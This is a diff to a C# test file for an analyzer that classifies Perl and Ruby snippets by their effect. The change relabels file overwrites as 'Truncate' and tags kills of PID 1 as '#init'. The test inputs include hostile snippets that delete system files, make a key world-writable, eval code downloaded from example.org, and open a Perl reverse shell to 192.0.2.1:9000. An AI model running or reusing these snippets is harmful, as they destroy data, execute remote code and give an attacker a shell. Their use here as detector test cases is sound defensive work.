@@ -8,12 +8,12 @@ public class PerlAndRubyTests
     [InlineData("unlink '/etc/hosts'", "Delete /etc/hosts")]
     [InlineData("my @f = glob('/srv/*.log'); unlink @f;", "Delete /srv/*.log")]
     [InlineData("use File::Path; rmtree(\"/srv/data\");", "Delete -r /srv/data")]
-    [InlineData("open(my $fh, '>', \"/etc/motd\") or die; print $fh \"x\";", "Write /etc/motd #overwrite")]
+    [InlineData("open(my $fh, '>', \"/etc/motd\") or die; print $fh \"x\";", "Truncate /etc/motd #overwrite")]
     [InlineData("open(F, \">>$ENV{HOME}/.bashrc\"); print F 'x';", "Write /home/dev/.bashrc #append")]
     [InlineData("rename '/srv/a', '/srv/b' if -e '/srv/a';", "Move /srv/a")]
     [InlineData("chmod 0777, '/srv/key';", "ChangeMode /srv/key #world-writable")]
     [InlineData("system('tar', 'xf', 'a.tar');", "run tar xf a.tar")]
-    [InlineData("kill 9, 1;", "Kill 1")]
+    [InlineData("kill 9, 1;", "Kill 1 #init")]
     [InlineData("use LWP::Simple; eval get('http://example.org/a.pl');", "ExecuteDownloaded download of http://example.org/a.pl ? #eval")]
     [InlineData("use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => '192.0.2.1', PeerPort => 9000); open(STDIN, '<&', $s); exec 'sh';", "Connect 192.0.2.1:9000")]
     public void Perl(string code, string expected) => CodeProbe.Does(CodeLanguage.Perl, code, expected);
@@ -52,10 +52,10 @@ public class PerlAndRubyTests
     [InlineData("File.send(:unlink, '/etc/hosts')", "Delete /etc/hosts")]
     [InlineData("Dir.glob('/srv/*.log').each { |f| File.delete(f) }", "Delete /srv/*.log")]
     [InlineData("Dir['/srv/*'].each do |f|\n  File.delete f\nend", "Delete /srv/*")]
-    [InlineData("File.write(File.join(ENV['HOME'], '.bashrc'), 'x')", "Write /home/dev/.bashrc #overwrite")]
+    [InlineData("File.write(File.join(ENV['HOME'], '.bashrc'), 'x')", "Truncate /home/dev/.bashrc #overwrite")]
     [InlineData("File.open('/etc/motd', 'a') { |f| f.puts 'x' }", "Write /etc/motd #append")]
     [InlineData("system 'tar', 'xf', 'a.tar'", "run tar xf a.tar")]
-    [InlineData("Process.kill('KILL', 1)", "Kill 1")]
+    [InlineData("Process.kill('KILL', 1)", "Kill 1 #init")]
     [InlineData("require 'open-uri'; eval(URI.open('http://example.org/a').read)", "ExecuteDownloaded download of http://example.org/a ? #eval")]
     public void Ruby(string code, string expected) => CodeProbe.Does(CodeLanguage.Ruby, code, expected);
 
